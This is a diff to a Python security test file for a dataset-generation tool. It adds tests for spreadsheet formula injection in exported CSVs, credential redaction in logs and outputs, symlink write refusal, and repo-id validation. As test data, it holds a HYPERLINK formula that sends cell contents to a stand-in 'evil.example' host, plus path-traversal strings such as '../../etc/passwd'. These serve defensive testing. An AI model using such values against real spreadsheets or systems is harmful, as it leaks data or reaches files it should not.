@@ -1,6 +1,8 @@
 """Security: names from recipes and data never escape the run folder, recipes cannot run code,
 nothing unpickles untrusted data, secrets stay out of every file a run writes, servers stay local."""
 import ast
+import csv
+import os
 import re
 import socket
 import textwrap
@@ -15,6 +17,7 @@ from muri_gen.recipe import RecipeError, load_recipe
 from muri_gen.runner import run_recipe
 from muri_gen.runner.layout import RunDir, safe_part
 from muri_gen.yaml_lines import LineLoader
+from tests.llm_fault_stub import FaultStub
 
 ROOT = Path(__file__).resolve().parents[1]
 TRAVERSALS = ["..", "../x", "../../etc/passwd", "a/b", "/etc", "a\\..\\b", ".hidden", "", "a\x00b", "spa/../../x",
@@ -212,3 +215,143 @@ def test_the_embedded_llm_server_listens_on_loopback_only():
             socket.create_connection((address, int(port)), timeout=5).close()
     finally:
         backend.teardown()
+
+
+# -- hostile values in what muri-gen writes ------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
+            "'=already quoted"]
+
+
+def fake_run(root: Path, rows: list[dict]) -> RunDir:
+    """A finished run folder holding ``rows`` as its kept pairs (the layout the runner writes)."""
+    from muri_gen.runner.layout import jsonl_bytes, write_atomic
+
+    run = RunDir(root)
+    run.create()
+    for segment in (0, 1):
+        run.segment_dir(segment).mkdir(parents=True)
+    write_atomic(run.split_marker, b"1")
+    write_atomic(run.shard_path(1, 0), jsonl_bytes(rows))
+    return run
+
+
+def test_eval_sheets_never_hold_a_cell_a_spreadsheet_would_run(tmp_path):
+    from muri_gen.report.evaluation import export_sheets, read_ratings
+
+    rows = [{"id": value, "language": "spa", "text": value, "instruction": value} for value in FORMULAS]
+    run = fake_run(tmp_path / "run", rows)
+    sheet = next(p for p in export_sheets(run, tmp_path / "sheets", per_lang=50) if p.suffix == ".csv")
+    with open(sheet, encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert sum(c.startswith("'") for c in cells) == 3 * len(FORMULAS)  # id, instruction, output of each
+    # a rater fills it in and the ids read back as the run's own
+    with open(sheet, encoding="utf-8", newline="") as fh:
+        filled = [{**row, "alignment": "4"} for row in csv.DictReader(fh)]
+    with open(sheet, "w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, list(filled[0]))
+        writer.writeheader()
+        writer.writerows(filled)
+    ratings, _ = read_ratings([sheet], set(FORMULAS))
+    assert sorted(r["id"] for r in ratings) == sorted(FORMULAS)
+    form = (sheet.with_suffix(".html")).read_text(encoding="utf-8")
+    assert "if (/^[=+\\-@\\t\\r']/.test(v)) v = \"'\" + v;" in form  # the form's own CSV guards them too
+
+
+def test_credentials_never_reach_a_log_the_saved_recipe_errored_records_or_the_report(tmp_path, write_jsonl, udhr_rows):
+    from tests.test_cli_console import muri_gen
+
+    url_password, key = "pw-in-url-51d0c", "echo-me-" + "5eb1" * 8
+    english = [r for r in udhr_rows if r["id"].startswith("udhr-eng-")][:4]
+    corpus = write_jsonl([{"id": r["id"], "text": r["text"]} for r in english])
+    with FaultStub() as stub:
+        def run(out, base_url):
+            recipe = write(tmp_path, f"""\
+                name: creds
+                input: {{path: {corpus}, fields: {{text_en: text}}}}
+                output: {{dir: {tmp_path / out}}}
+                backends:
+                  llm: {{kind: llm, type: openai, model: stub, max_retries: 0, api_key_env: MURI_ECHO,
+                         base_url: '{base_url}',
+                         launch_env: {{HF_TOKEN: hf_launchsecret0123456789}}}}
+                stages:
+                  - {{stage: reverse_instruction, llm: llm, max_tokens: 16, n: 1}}
+                sinks:
+                  - {{sink: report}}
+                """, f"{out}.yaml")
+            return muri_gen("--verbose", "run", recipe, env={"MURI_ECHO": key})
+
+        fine = run("fine", stub.base_url.replace("://", f"://alice:{url_password}@"))
+        stub.faults = ["echo"] * 4  # now the server refuses the key and quotes it back
+        echoed = run("echoed", stub.base_url)
+    assert fine.returncode == 0, fine.stderr[-2000:]
+    assert "HTTP Request: POST http://<redacted>@127.0.0.1" in fine.stderr  # httpx's own log line, redacted
+    assert echoed.returncode == 3, echoed.stderr[-2000:]
+    assert "invalid credentials: Bearer <redacted>" in (tmp_path / "echoed" / "errored" / "seg-1-shard-00000.jsonl").read_text()
+    assert re.search(r"4 of 4 records errored .* run the same command with --retry-errored", echoed.stderr.splitlines()[-1])
+    written = [p for out in ("fine", "echoed") for p in (tmp_path / out).rglob("*") if p.is_file()]
+    assert {"recipe.yaml", "run.log", "report.html"} <= {p.name for p in written}
+    for secret in (url_password, key, "hf_launchsecret0123456789"):
+        assert secret not in fine.stderr + fine.stdout + echoed.stderr + echoed.stdout
+        assert [p for p in written if secret.encode() in p.read_bytes()] == []
+
+
+def test_a_symbolic_link_in_the_output_folder_is_never_written_through(tmp_path, write_jsonl, udhr_rows):
+    from muri_gen.runner import RunLock
+    from muri_gen.runner.layout import LinkInOutput, write_atomic
+
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "run.lock").symlink_to(victim)
+    recipe = write(tmp_path, f"""\
+        name: links
+        input: {{path: {write_jsonl(udhr_rows[:5])}}}
+        output: {{dir: {out}}}
+        stages:
+          - {{stage: normalize}}
+        """)
+    with pytest.raises(LinkInOutput, match="run.lock"):
+        run_recipe(load_recipe(recipe))
+    with pytest.raises(LinkInOutput):
+        with RunLock(RunDir(out)):
+            pass
+    (out / "run.lock").unlink()
+    (out / f".stats.json.tmp-{os.getpid()}").symlink_to(victim)
+    with pytest.raises(LinkInOutput):
+        write_atomic(out / "stats.json", b"{}")
+    assert victim.read_text() == "precious"
+
+
+def test_a_symbolic_link_as_run_log_is_refused_by_the_command(tmp_path, write_jsonl, udhr_rows):
+    from tests.test_cli_console import muri_gen
+
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "run.log").symlink_to(victim)
+    recipe = write(tmp_path, f"""\
+        name: links
+        input: {{path: {write_jsonl(udhr_rows[:5])}}}
+        output: {{dir: {tmp_path / 'out'}}}
+        stages:
+          - {{stage: normalize}}
+        """)
+    result = muri_gen("run", recipe)
+    assert result.returncode == 1 and victim.read_text() == "precious"
+    assert result.stderr.strip().splitlines()[-1] == (
+        f"error: {tmp_path / 'out' / 'run.log'}: a symbolic link; muri-gen never writes through links in an "
+        "output folder: remove it")
+
+
+@pytest.mark.parametrize("repo_id", ["../../evil", "org/../x", "a/b/c", "org/" + "x" * 97, "org/name with space"])
+def test_publish_refuses_a_repo_id_the_hub_would_not_accept_even_in_a_dry_run(tmp_path, repo_id):
+    from typer.testing import CliRunner
+
+    from muri_gen.cli import app
+
+    (tmp_path / "dataset").mkdir()
+    result = CliRunner().invoke(app, ["publish", str(tmp_path), "--repo-id", repo_id, "--dry-run"])
+    assert result.exit_code == 2 and f"--repo-id {repo_id!r}: Repo id must" in result.output
